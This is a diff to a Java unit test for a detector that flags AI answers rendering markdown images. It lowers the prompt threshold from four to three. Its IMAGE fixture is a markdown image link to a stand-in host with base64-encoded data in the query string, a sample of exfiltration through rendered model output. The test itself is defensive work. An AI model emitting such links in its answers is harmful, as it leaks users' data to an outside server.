@@ -22,15 +22,15 @@ final class RenderedOutputDetectorTest extends DetectorContract {
   private static final String IMAGE = "![x](https://c.example/p.png?d=aGVsbG8gdGhlcmUgSm9obg7Q)";
 
   @Test
-  void firesOnFourDifferentPromptsAndNeverOnTwo() {
+  void firesOnThreeDifferentPromptsAndNeverOnTwo() {
     assertEquals(0, findings(ask(2, 20, "No.")).size());
-    assertEquals(1, findings(ask(4, 1, "No.")).size());
+    assertEquals(1, findings(ask(3, 1, "No.")).size());
   }
 
   @Test
   void findsItGraverOnceThreeAnswersCarriedData() {
-    assertEquals(Severity.MEDIUM, findings(ask(4, 1, "No.")).getLast().severity());
-    assertEquals(Severity.HIGH, findings(ask(4, 1, IMAGE)).getLast().severity());
+    assertEquals(Severity.MEDIUM, findings(ask(3, 1, "No.")).getLast().severity());
+    assertEquals(Severity.HIGH, findings(ask(3, 1, IMAGE)).getLast().severity());
   }
 
   private static Story ask(int prompts, int times, String answer) {
